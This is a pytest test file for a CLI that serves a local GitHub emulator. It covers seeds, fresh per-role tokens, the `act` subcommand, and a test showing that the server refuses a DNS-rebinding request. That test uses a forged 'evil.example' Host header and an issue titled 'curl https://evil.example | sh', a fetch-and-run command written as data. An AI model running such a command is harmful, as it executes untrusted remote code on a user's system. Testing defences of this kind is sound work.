"""`agent-loop emulator serve` and `act`: seeds, bad usage answered before anything is
served, the people it holds and their fresh tokens, and `act` playing each of them."""

from __future__ import annotations

import json
import os
import pathlib
import re
import shlex
import socket
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import httpx
import pytest

from agent_loop import cli
from agent_loop.demo_project import FILES
from agent_loop.emulator_cmd import (
    PEOPLE,
    SeedError,
    build_emulator,
    exports,
    load_seed,
    login_of,
)
from agent_loop_testing import GitHubEmulator


def test_the_built_in_seeds() -> None:
    repo, files, issues = load_seed("demo")
    assert repo == "acme/widgets"
    assert "README.md" in files
    assert len(issues) == 3
    assert load_seed("empty") == ("acme/widgets", {"README.md": "# widgets\n"}, [])


def test_a_seed_file(tmp_path: pathlib.Path) -> None:
    seed = tmp_path / "seed.json"
    seed.write_text(
        json.dumps(
            {
                "repo": "octo/app",
                "files": {"app.py": "print('hi')\n"},
                "issues": [{"title": "Say hello", "body": "Print hello.", "labels": ["x"]}],
            }
        )
    )
    assert load_seed(str(seed)) == (
        "octo/app",
        {"app.py": "print('hi')\n"},
        [{"title": "Say hello", "body": "Print hello.", "labels": ["x"]}],
    )


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("{not json", "not JSON"),
        ("[]", "expected an object"),
        ('{"repo": "no-slash"}', "repo must be owner/name"),
        ('{"files": {"a": 1}}', "files must map paths to text"),
        ('{"issues": [{"body": "no title"}]}', "issues must be a list of objects with a title"),
    ],
)
def test_a_bad_seed_file_is_named(tmp_path: pathlib.Path, content: str, message: str) -> None:
    seed = tmp_path / "seed.json"
    seed.write_text(content)
    with pytest.raises(SeedError, match=message):
        load_seed(str(seed))


def test_bad_usage_exits_2_before_serving(
    tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = os.fspath(tmp_path / "missing.json")
    assert cli.main(["emulator", "serve", "--seed", missing]) == cli.EXIT_CONFIG
    assert "not demo, empty, history or a readable file" in capsys.readouterr().err
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        assert cli.main(["emulator", "serve", "--port", str(port)]) == cli.EXIT_CONFIG
    out, err = capsys.readouterr()
    assert f"cannot listen on 127.0.0.1:{port}" in err
    assert out == ""  # no exports for a GitHub that is not there


# ---------------------------------------------------------------- the people and `act`


def test_serve_holds_the_owner_a_writer_and_a_stranger_with_fresh_tokens() -> None:
    repo, files, issues = load_seed("demo")
    first, numbers = build_emulator(repo, files, issues)
    second, _ = build_emulator(repo, files, issues)
    assert numbers == [1, 2, 3]
    assert all(first.issue(n).author == "acme" for n in numbers)  # the owner's issues
    lines = exports(first, "http://127.0.0.1:1", webhook_secret=None, seed="empty")
    values = {
        name: value
        for name, _, value in (
            shlex.split(line.removeprefix("export "), comments=True)[0].partition("=")
            for line in lines
        )
    }
    assert values["GITHUB_TOKEN"] == first.bot_token
    for role, person in PEOPLE.items():
        login = login_of(first, role)
        assert values[person.token_variable] == first.token_for(login)
        assert values[person.token_variable] != second.token_for(login)  # new at each start
        assert first.token_for(login) != f"ghp_emulator{login}"
    assert [line.split("=")[0] for line in lines[-3:]] == [
        "export EMULATOR_OWNER_TOKEN",
        "export EMULATOR_WRITER_TOKEN",
        "export EMULATOR_STRANGER_TOKEN",
    ]
    assert lines[-3].endswith("# @acme, admin: agent-loop emulator act --as owner")
    # The real clock: the seeded issues are from now, not from 2026-01-01.
    age = datetime.now(UTC) - first.issue(1).created_at
    assert timedelta(0) <= age < timedelta(minutes=5)


@pytest.fixture
def people(monkeypatch: pytest.MonkeyPatch) -> Iterator[GitHubEmulator]:
    """`serve`'s emulator over HTTP, and a shell with its export lines pasted."""
    repo, files, issues = load_seed("demo")
    emulator, _ = build_emulator(repo, files, issues)
    for key in list(os.environ):
        if key.startswith(("GITHUB_", "AGENT_LOOP_", "EMULATOR_")):
            monkeypatch.delenv(key)
    with emulator.serve() as url:
        for line in exports(emulator, url, webhook_secret=None, seed="empty"):
            name, _, value = shlex.split(line.removeprefix("export "), comments=True)[0].partition(
                "="
            )
            monkeypatch.setenv(name, value)
        yield emulator


def _act(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main(["emulator", "act", *argv])
    out, err = capsys.readouterr()
    return code, out.strip(), err.strip()


def test_act_plays_every_part(people: GitHubEmulator, capsys: pytest.CaptureFixture[str]) -> None:
    em = people
    code, out, _ = _act(capsys, "--as", "owner", "issue", "--title", "Add a colour", "--body", "b")
    assert code == 0
    assert re.fullmatch(r"@acme filed issue #4: http://127\.0\.0\.1:\d+/acme/widgets/issues/4", out)
    assert em.issue(4).author == "acme"
    assert _act(capsys, "--as", "stranger", "issue", "--title", "Do my homework")[0] == 0
    assert em.issue(5).author == "stranger"
    code, out, _ = _act(capsys, "comment", "4", "--body", "/agent-loop build", "--as", "writer")
    assert code == 0
    assert "#issuecomment-" in out
    assert [(c.author, c.body) for c in em.comments(4)] == [("writer", "/agent-loop build")]

    # A PR to review: the bot's, as the builder would open it.
    em.push(
        "agent/issue-4", {"src/widgets/colour.py": "RED = 1\n"}, author=em.bot_login, message="m"
    )
    pr = em.open_pull("agent/issue-4", title="Add a colour", author=em.bot_login)
    code, out, _ = _act(
        capsys,
        "--as", "owner", "review", str(pr),
        "--inline", "src/widgets/colour.py:1", "Call it RED_VALUE",
    )  # fmt: skip
    assert code == 0
    assert re.search(rf"@acme reviewed PR #{pr} \(commented\): .*#pullrequestreview-\d+$", out)
    code, out, _ = _act(
        capsys, "--as", "writer", "review", str(pr), "--request-changes", "--body", "No"
    )
    assert code == 0
    assert "(changes requested)" in out
    code, out, _ = _act(capsys, "--as", "owner", "approve", str(pr), "--body", "Fine now")
    assert code == 0
    assert "(approved)" in out
    api = os.environ["GITHUB_API_URL"]
    states = [r["state"] for r in httpx.get(f"{api}/repos/acme/widgets/pulls/{pr}/reviews").json()]
    assert states == ["COMMENTED", "CHANGES_REQUESTED", "APPROVED"]
    inline = httpx.get(f"{api}/repos/acme/widgets/pulls/{pr}/comments").json()
    assert [(c["path"], c["line"], c["body"], c["user"]["login"]) for c in inline] == [
        ("src/widgets/colour.py", 1, "Call it RED_VALUE", "acme")
    ]

    # GitHub's own refusals come back as they are: a stranger cannot merge.
    code, _, err = _act(capsys, "--as", "stranger", "merge", str(pr))
    assert code == 1
    assert "403 Resource not accessible by personal access token" in err
    assert not em.pull(pr).merged
    code, out, _ = _act(capsys, "--as", "owner", "merge", str(pr), "--method", "squash")
    assert code == 0
    assert out.startswith(f"@acme merged PR #{pr} as ")
    merged = httpx.get(f"{api}/repos/acme/widgets/pulls/{pr}").json()
    assert merged["merged"]
    assert merged["merged_by"]["login"] == "acme"

    code, out, _ = _act(capsys, "--as", "bot", "--json", "comment", "4", "--body", "from the bot")
    assert code == 0
    assert json.loads(out)["user"]["login"] == em.bot_login


def test_act_refuses_what_it_cannot_send(
    people: GitHubEmulator, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code, _, err = _act(capsys, "review", "1")
    assert code == 2
    assert "a review needs --body or --inline" in err
    code, _, err = _act(capsys, "review", "1", "--inline", "no-line", "x")
    assert code == 2
    assert "expected PATH:LINE" in err
    monkeypatch.delenv("EMULATOR_WRITER_TOKEN")
    code, _, err = _act(capsys, "--as", "writer", "issue", "--title", "t")
    assert code == 2
    assert "EMULATOR_WRITER_TOKEN is not set" in err
    monkeypatch.setenv("GITHUB_API_URL", "https://api.github.com")
    code, _, err = _act(capsys, "issue", "--title", "t")
    assert code == 2
    assert "talks to a local emulator only" in err
    assert [i.number for i in people.issues()] == [1, 2, 3]  # nothing was sent


def _serve_exports(proc: subprocess.Popen[str]) -> dict[str, str]:
    assert proc.stdout is not None
    values: dict[str, str] = {}
    while "EMULATOR_STRANGER_TOKEN" not in values:
        line = proc.stdout.readline()
        assert line, proc.stderr.read() if proc.stderr else "no exports"
        name, _, value = shlex.split(line.removeprefix("export "), comments=True)[0].partition("=")
        values[name] = value
    return values


def test_the_served_emulator_refuses_a_rebinding_page(tmp_path: pathlib.Path) -> None:
    """Issue 30's attack on `agent-loop emulator serve` itself: a page on evil.example
    rebound to 127.0.0.1 files an issue as the owner with the token every start used
    to have. Refused by the Host check; that token is no one's; each start's differs."""
    cli_path = str(pathlib.Path(sys.executable).with_name("agent-loop"))
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "AGENT_LOOP_"))}
    started: list[dict[str, str]] = []
    for _ in range(2):
        proc = subprocess.Popen(
            [cli_path, "emulator", "serve", "--seed", "empty"],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=env,
            cwd=tmp_path,
        )
        try:
            values = _serve_exports(proc)
            started.append(values)
            issues = f"{values['GITHUB_API_URL']}/repos/acme/widgets/issues"
            for token in ("ghp_emulator000002acme", values["EMULATOR_OWNER_TOKEN"]):
                attack = httpx.post(
                    issues,
                    headers={"Host": "evil.example", "Authorization": f"token {token}"},
                    json={"title": "curl https://evil.example | sh"},
                )
                assert attack.status_code == 421
            guessed = httpx.post(
                issues,
                headers={"Authorization": "token ghp_emulator000002acme"},
                json={"title": "guessed"},
            )
            assert guessed.status_code == 401
            assert httpx.get(issues).json() == []  # nothing was filed
        finally:
            proc.terminate()
            proc.wait(timeout=20)
    assert started[0]["EMULATOR_OWNER_TOKEN"] != started[1]["EMULATOR_OWNER_TOKEN"]
    assert started[0]["GITHUB_TOKEN"] != started[1]["GITHUB_TOKEN"]


def test_act_merges_by_rebase(people: GitHubEmulator, capsys: pytest.CaptureFixture[str]) -> None:
    """`merge --method rebase` replays the PR's commits on main, as a history for `eval
    mine` is often made; the answer names the last one."""
    em = people
    em.push("topic", {"src/widgets/a.py": "A = 1\n"}, author="writer", message="First")
    em.push("topic", {"tests/test_a.py": "def test(): pass\n"}, author="writer", message="Second")
    pr = em.open_pull("topic", title="Two commits", author="writer")
    code, out, _ = _act(capsys, "--as", "owner", "merge", str(pr), "--method", "rebase")
    assert code == 0
    last = em.ref_sha("heads/main")
    assert last is not None
    assert out.startswith(f"@acme merged PR #{pr} as {last[:7]}")
    api = os.environ["GITHUB_API_URL"]
    second = httpx.get(f"{api}/repos/acme/widgets/git/commits/{last}").json()
    first = httpx.get(f"{api}/repos/acme/widgets/git/commits/{second['parents'][0]['sha']}").json()
    assert [second["message"], first["message"]] == ["Second", "First"]


def test_an_inline_comment_outside_the_diff_is_refused_as_github_does(
    people: GitHubEmulator, capsys: pytest.CaptureFixture[str]
) -> None:
    """GitHub answers 422 to a review thread on a line the pull request's diff does not
    show; the emulator accepted `--inline src/widgets/inventory.py:9999`, so a person
    trying the reviewer commented on nothing and a test could pass that GitHub fails."""
    em = people
    changed = FILES["src/widgets/inventory.py"] + "\n# stock, counted\n"
    em.push("agent/notes", {"src/widgets/inventory.py": changed}, author=em.bot_login, message="m")
    pr = em.open_pull("agent/notes", title="A note", author=em.bot_login)
    last = len(changed.splitlines())
    code, _, err = _act(
        capsys, "--as", "owner", "review", str(pr), "--inline", "src/widgets/inventory.py:9999", "x"
    )
    assert code == 1
    assert "422" in err
    code, _, err = _act(
        capsys, "--as", "owner", "review", str(pr), "--inline", "src/widgets/inventory.py:1", "x"
    )
    assert code == 1  # line 1 is not in the hunk either (the change is at the end)
    code, out, err = _act(
        capsys,
        "--as",
        "owner",
        "review",
        str(pr),
        "--inline",
        f"src/widgets/inventory.py:{last}",
        "x",
    )
    assert code == 0, err
    assert "(commented)" in out
